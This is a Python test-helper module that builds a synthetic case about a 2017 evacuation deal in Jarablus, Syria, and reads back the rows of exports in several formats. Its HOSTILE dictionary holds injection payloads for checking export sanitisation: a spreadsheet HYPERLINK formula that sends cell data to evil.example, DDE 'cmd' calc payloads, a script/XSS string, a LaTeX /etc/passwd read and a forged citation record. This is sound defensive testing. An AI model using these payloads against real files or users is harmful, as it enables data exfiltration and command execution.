"""A case with something in every table, quiet or hostile, and the rows of any export of it, read back."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from typing import Any

from making import make_case, make_deed, make_episode, make_figure, make_report
from safeconduct.publish.exports import Contents, Files, Format
from safeconduct.reconcile import reconcile
from safeconduct.track import track
from safeconduct.vocab.case import Case
from safeconduct.vocab.case_claims import Cited, Naming, TermIn
from safeconduct.vocab.claim import DeedKind, Extent, Group, Measure, Mode, TermKind
from safeconduct.vocab.document import Report
from safeconduct.vocab.linked_case import CaseReport, Deal, Relation, RelationKind, Role, Variants
from safeconduct.vocab.period import PartialDate
from safeconduct.vocab.quantity import Bound

__all__ = ["FOLDER", "HOSTILE", "hostile_case", "rows_of", "whole_case"]

#: Where the reports of the case lay: nobody's business.
FOLDER = "/home/ada/sources"

#: Words by which a report may try to run something, break a file or hide, each with what it is.
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "full width": "＝1+1",
    "after a space": "   =1+1",
    "after a zero-width space": "\u200b=1+1",
    "override": "\u202egnp.exe",
    "isolates": "\u2066a\u2069\u2067b",
    "controls": "a\x00b\x07c\x1b[31md\x7fe\x85f",
    "quotes": '"\'“”‘’"","",',
    "separators": "a,b;c|d\r\ne\nf\u2028g\u2029h",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;",
    "long": "x" * 40_000,
    "half a character": "a\ud800b",
    "braces": "{\\input{/etc/passwd}} } { \\ % $ # & _ ~ ^",
    "record": "\nER  - \nTY  - JOUR\nTI  - forged",
    "not a character": "a\ufffeb\uffffc",
}


def _report(id: str, published: str, text: str, publisher: str) -> Report:
    made = make_report(id, published, text, publisher)
    capture = replace(made.capture, sha256=f"{sum(id.encode()):064x}", source=f"{FOLDER}/{id}.md")
    return replace(made, capture=capture, title=f"{publisher}: {text[:18].strip()}", url=f"https://news.example/{id}")


def whole_case(place: str = "Jarablus", voice: str = "the governor", extra: str = "", publisher: str = "Radio") -> Case:
    """A case of a place in Syria, with departures, deaths, a siege, clauses and what contradicts what.

    Args:
        place: its name.
        voice: who says the figures.
        extra: words that stand in every report.
        publisher: of every report.
    """
    plan = _report("plan", "2017-03-13", f"The deal was signed. Some 12,000 people are to leave. {extra}|", publisher)
    first = _report(
        "first",
        "2017-03-20",
        f"1,500 people left for Idlib. 1,200 people left, too; besieged; 30 dead. {extra}|",
        publisher,
    )
    end = _report(
        "end", "2017-05-21", f"In all 11,000 left; others say 14,000 left. Aid arrived in April. {extra}|", "Post"
    )
    figures = [
        make_figure(first, "1,500 people", by=voice, to="Idlib", days="2017-03-19/2017-03-19"),
        make_figure(first, "1,200 people", by="an observer", to="Idlib", days="2017-03-19/2017-03-19"),
    ]
    signed = Cited(plan, plan.text.span(0, 20), voice, claim="c0ffee")
    words = Cited(plan, plan.text.span(0, 20 + len(extra)), voice)
    linked = make_case(
        deal=Deal(
            PartialDate(2017, 3), ("plan",), parties=(Naming("the army", ("the army", "army"), ("plan",)),),
            guarantors=(Naming(voice, (voice,), ("plan",)),), destinations=(Naming("Idlib", ("Idlib",), ("first",)),),
            terms=(
                TermIn(TermKind.CEASEFIRE, "a truce", None, (signed,)),
                TermIn(TermKind.RETURN, "return", voice, (words,)),
            ),
            reports=("plan",),
        ),
        promised=[make_figure(plan, "12,000 people", mode=Mode.PLANNED, bound=Bound.ABOUT)],
        episodes=[make_episode(figures, start="2017-03-19", destinations=["Idlib"], ordinal=1)],
        reported=[
            make_figure(end, "11,000", extent=Extent.TOTAL, days="/2017-05-21"),
            make_figure(end, "14,000", extent=Extent.TOTAL, days="/2017-05-21", by="others"),
        ],
        others=[make_figure(first, "30 dead", measure=Measure.KILLED, days="2017-03/2017-03", group=Group.CIVILIANS)],
        deeds=[
            make_deed(plan, "signed", DeedKind.SIGNING, "2017-03/2017-03"),
            make_deed(first, "besieged", DeedKind.SIEGE, "2013/2013", mode=Mode.ONGOING),
            make_deed(end, "Aid arrived", DeedKind.AID_DELIVERED, "2017-04/2017-04", by=voice),
        ],
        doubts=[Cited(first, first.text.span(0, 5), note="reads two ways")],
        relations=[Relation(RelationKind.RENEWS, None, PartialDate(2015), "the deal says so", (signed,))],
        variants=Variants(people=((voice, "him"),)),
    )  # fmt: skip
    reports = tuple(CaseReport(one, Role.ABOUT, "tells of it") for one in (plan, first, end))
    named = {
        "place": Naming(place, (place,)),
        "part_of": ("Aleppo", "Syria"),
        "reports": reports,
        "id": "jarablus-2017",
    }
    linked = replace(linked, **named)
    return track(linked, reconcile(linked), date(2017, 6, 1))


def hostile_case(words: str) -> Case:
    """The same with these words for its place, its voices and its publisher, and in every report."""
    return whole_case(words, words, words, words)


def rows_of(kind: Format, files: Files) -> list[dict[str, Any]]:
    """Every row of an export that stands on words: quote, span_start, span_end, voices, report, digest, rule."""
    rows = list(_rows(kind, files))
    return [row for row in rows if row.get("quote") not in (None, "")]


def _rows(kind: Format, files: Files) -> Iterator[dict[str, Any]]:
    name = kind.name
    if name == "xlsx":
        import openpyxl

        for sheet in openpyxl.load_workbook(io.BytesIO(files[""])).worksheets[1:]:
            values = list(sheet.values)
            yield from (dict(zip(values[0], row, strict=True)) for row in values[1:])
    elif name == "parquet":
        from pyarrow import parquet

        for file, data in files.items():
            if file.endswith(".parquet"):
                yield from parquet.read_table(io.BytesIO(data)).to_pylist()
    elif name == "geojson":
        yield from (feature["properties"] for feature in json.loads(files[""])["features"])
    elif name in ("jsonl", "plover", "ftm"):
        for line in files[""].decode("utf-8").split("\n")[:-1]:
            yield _unfolded(json.loads(line))
    else:
        for file, data in files.items():
            if file.endswith(".csv") or not file:
                yield from map(_unfolded, csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _unfolded(record: dict[str, Any]) -> dict[str, Any]:
    """The last columns of a record by the names that tables give them."""
    told = record.get("safeconduct", record)
    if "text_info" in record:
        start, end = record["text_info"]["start"], record["text_info"]["end"]
        return {
            **record,
            "quote": record["text"],
            "span_start": start,
            "span_end": end,
            "report": record["cite_info"]["citation"],
        }
    span = told.get("span")
    if isinstance(span, str):
        span = [int(part) for part in span.split("-")] if span else None
    return {**told, "span_start": span[0], "span_end": span[1]} if span else dict(told)


def contents(*cases: Case, note: str = "") -> Contents:
    """The contents of an export."""
    return Contents(cases, note)
